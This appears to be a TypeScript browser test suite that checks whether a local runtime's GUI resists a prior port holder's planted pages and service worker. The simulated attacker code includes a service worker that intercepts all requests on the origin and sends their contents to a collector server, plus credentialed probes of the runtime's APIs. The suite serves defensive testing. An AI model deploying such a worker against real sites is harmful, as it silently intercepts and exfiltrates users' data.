/**
 * Another user of the machine had the runtime's port before it, and the browser came to him there: by a link of his, or
 * by a tab of ours that was loaded again while no runtime ran. To the browser his pages, and a service worker that he left,
 * are of the origin of that host and port for as long as it keeps them.
 */
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import * as assert from 'uvu/assert';
import { writeLastPort } from '../../../runtime/data/last-port.ts';
import {
  closeWindows,
  createWindowWorld,
  openByName,
  openPage,
  rowsAre,
  type WindowWorld,
} from '../../gui/browser/support/window.ts';
import { hasIPv6 } from '../../support/loopback.ts';
import { suite } from '../../support/suite.ts';
import { until } from '../../support/until.ts';
import { ended } from '../../support/world.ts';
import { namesOfTheCompiler } from './support/attacker.ts';

const test = suite('whoever had the port before, in Chromium', { timeLimitMs: 300_000 });
test.after(closeWindows);

/** What nobody but the owner is to see. */
const secret = 'what nobody else is to read';

/** Where what his pages and workers get to see is brought. */
const openCollector = async (): Promise<{
  readonly url: string;
  readonly heard: string[];
  readonly close: () => void;
}> => {
  const heard: string[] = [];
  const server = createServer(async (request, response) => {
    let text = '';
    for await (const piece of request) text += String(piece);
    heard.push(text);
    response.setHeader('access-control-allow-origin', '*').end();
  }).listen(0, '127.0.0.1');
  // A test that fails closes nothing, and is not to wait for it.
  server.unref();
  await once(server, 'listening');
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`,
    heard,
    close: () => {
      server.close();
      server.closeAllConnections();
    },
  };
};

/**
 * His site on both loopback addresses, as the runtime has them. Each of his pages leaves a worker that takes every page
 * of the origin and tells what passes through it; whatever is asked for here, his page answers.
 */
const openSite = async (port: number, collector: string) => {
  const asked: string[] = [];
  const worker = `
    const tell = (text) => fetch('${collector}', { method: 'POST', mode: 'no-cors', body: text });
    addEventListener('install', () => skipWaiting());
    addEventListener('activate', (event) => event.waitUntil(clients.claim()));
    addEventListener('fetch', (event) => event.respondWith((async () => {
      const said = await event.request.clone().text().catch(() => '');
      const answer = await fetch(event.request);
      const heard = await answer.clone().text().catch(() => '');
      await tell(['worker', event.request.url, said, answer.status, heard].join(' '));
      const own = await fetch('/api/dashboard').then((mine) => mine.text(), String);
      await tell('worker of its own ' + own);
      return answer;
    })()));`;
  const page = `<!doctype html><title>his</title><script>
    navigator.serviceWorker.register('/his-worker.js').then(() => navigator.serviceWorker.ready)
      .then(() => { document.title = 'he is in'; });
  </script>`;
  const open = async (wanted: number, host: string): Promise<Server> => {
    const server = createServer(async (request, response) => {
      let text = '';
      for await (const piece of request) text += String(piece);
      asked.push(`${request.method} ${request.url} ${text}`);
      const isWorker = request.url === '/his-worker.js';
      response.setHeader('content-type', isWorker ? 'text/javascript' : 'text/html');
      response.end(isWorker ? worker : page);
    }).listen({ port: wanted, host, ipv6Only: true });
    server.on('upgrade', (request, socket) => {
      asked.push(`upgrade ${request.url}`);
      socket.destroy();
    });
    server.unref();
    await once(server, 'listening');
    return server;
  };
  const first = await open(port, '127.0.0.1');
  const taken = (first.address() as AddressInfo).port;
  const servers = hasIPv6 ? [first, await open(taken, '::1')] : [first];
  return {
    port: taken,
    asked,
    close: async () => {
      for (const server of servers) {
        const closed = once(server, 'close');
        server.close();
        server.closeAllConnections();
        await closed;
      }
    },
  };
};

const letHimIn = async (page: Page, url: string): Promise<void> => {
  await page.goto(url);
  await until(`he is in at ${url}`, async () => (await page.title()) === 'he is in');
  await page.evaluate(namesOfTheCompiler);
};

/** What a page of his gets on its own origin, which is the runtime's port now, and on the window's. */
const tryEverything = (page: Page, targets: readonly string[]): Promise<readonly string[]> =>
  page.evaluate(async (origins) => {
    const seen: string[] = [];
    for (const origin of ['', ...origins]) {
      for (const path of ['/api/dashboard', '/api/health', '/api/window/remembered', '/api/search?text=what']) {
        for (const mode of ['cors', 'no-cors'] as const) {
          const text = await fetch(origin + path, { mode, credentials: 'include' }).then(
            async (answer) => `${answer.ok ? 'let in: ' : ''}${await answer.text()}`,
            () => '',
          );
          seen.push(`${origin}${path} ${text}`);
        }
      }
      for (const path of ['/api/sessions', '/api/stop']) {
        const init = { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' } as const;
        await fetch(origin + path, { ...init, credentials: 'include' }).then(
          (answer) => seen.push(`${path} ${answer.ok ? 'let in' : answer.status}`),
          () => {},
        );
      }
      const socket = new WebSocket(`${(origin || location.origin).replace('http', 'ws')}/api/dashboard/live`);
      await new Promise<void>((resolve) => {
        socket.onmessage = ({ data }) => seen.push(`websocket let in: ${data}`);
        socket.onopen = () => seen.push('websocket let in');
        socket.onclose = () => resolve();
      });
    }
    return seen;
  }, targets);

const sawNothing = (what: string, seen: readonly string[]): void =>
  assert.equal(
    seen.filter((text) => text.includes('let in') || text.includes(secret)),
    [],
    what,
  );

/** A runtime on the port that was his, as far as nobody else on this machine was faster. */
const takeOver = async (port: number): Promise<WindowWorld | null> => {
  const world = await createWindowWorld('earlier', ({ directory }) => writeLastPort(directory, port));
  return Number(new URL(world.origin()).port) === port ? world : null;
};

test('his pages and workers, open since before the runtime was there, neither see the window nor do what it can', async () => {
  const collector = await openCollector();
  for (let attempt = 1; attempt <= 5; attempt += 1) {
    const site = await openSite(0, collector.url);
    const { page: first } = await openPage();
    const context = first.context();
    const pages: Page[] = [];
    for (const name of ['127.0.0.1', 'localhost', `${'0'.repeat(32)}.localhost`]) {
      const page = await context.newPage();
      await letHimIn(page, `http://${name}:${site.port}/`);
      pages.push(page);
    }
    await site.close();
    const world = await takeOver(site.port);
    if (world === null) continue;

    const runtime = world.runtime();
    await ended(runtime, await world.start(secret, 'quick'));
    await first.goto(await world.ticket());
    await rowsAre(first, secret);
    await openByName(first, secret);
    const window = new URL(first.url()).origin;
    for (const page of pages) sawNothing(page.url(), await tryEverything(page, [window]));
    // His worker may answer at the addresses that everybody knows: there is nothing to be seen.
    const typed = await context.newPage();
    await typed.goto(`http://127.0.0.1:${site.port}/`);
    assert.is(await typed.getByText(secret).count(), 0);
    assert.ok(
      collector.heard.some((text) => text.startsWith('worker')),
      'his worker is at work',
    );
    sawNothing('what was brought to him', collector.heard);
    assert.is((await runtime.client.call('health', {})).pid, runtime.pid, 'it was not stopped');
    assert.is((await runtime.dashboard()).rows.length, 1, 'nothing was started');
    collector.close();
    return;
  }
  throw new Error('the port could not be had for the runtime');
});

test('a tab of ours that was loaded again while he had the port is his, and gets nothing from the next runtime', async () => {
  const collector = await openCollector();
  const world = await createWindowWorld('reloaded');
  await ended(world.runtime(), await world.start(secret, 'quick'));
  const { page: ours, problems } = await world.window();
  await openByName(ours, secret);
  await ours.getByText('Done, that was quick.').waitFor();
  const before = new URL(ours.url());
  const lost = await ours.context().newPage();
  await lost.goto(await world.ticket());
  await rowsAre(lost, secret);
  assert.is(new URL(lost.url()).host, before.host);

  await world.runtime().kill();
  const site = await openSite(Number(before.port), collector.url);
  await letHimIn(lost, lost.url());
  await until('the page of ours has come to him', () =>
    site.asked.some((line) => line.startsWith('POST /api/reconnect ')),
  );
  // What is written meanwhile waits for the runtime.
  const composer = ours.getByRole('textbox', { name: 'Next prompt' });
  await composer.fill('begun while he listened');
  await ours.getByText('can be sent when it is back').first().waitFor();
  assert.ok(await ours.getByRole('button', { name: 'Send' }).isDisabled());
  await composer.press('Control+Enter');
  const polls = site.asked.length;
  await until('he was asked again', () => site.asked.length > polls);
  assert.equal(
    site.asked.filter((line) => line.includes('begun') || line.includes('/prompt') || line.startsWith('upgrade')),
    [],
    'he is told nothing, and not listened to',
  );
  assert.is(await ours.getByText('Runtime gone, reconnecting').count(), 1);
  await site.close();

  await world.startAgain();
  await until('the page has moved', () => new URL(ours.url()).host !== before.host);
  await ours.locator('.session h1', { hasText: secret }).waitFor();
  assert.match(new URL(ours.url()).hash, /^#\/session\//, 'to what was open');
  assert.is(await composer.inputValue(), 'begun while he listened');
  const { origin: window } = new URL(ours.url());
  sawNothing('the page he has', await tryEverything(lost, [window]));
  sawNothing('the page he has, loaded once more', [(await lost.reload())?.statusText() ?? '', await lost.content()]);
  assert.ok(
    collector.heard.some((text) => text.startsWith('worker')),
    'his worker is at work',
  );
  sawNothing('what was brought to him', collector.heard);
  assert.equal(problems, []);
  collector.close();
});

test.run();
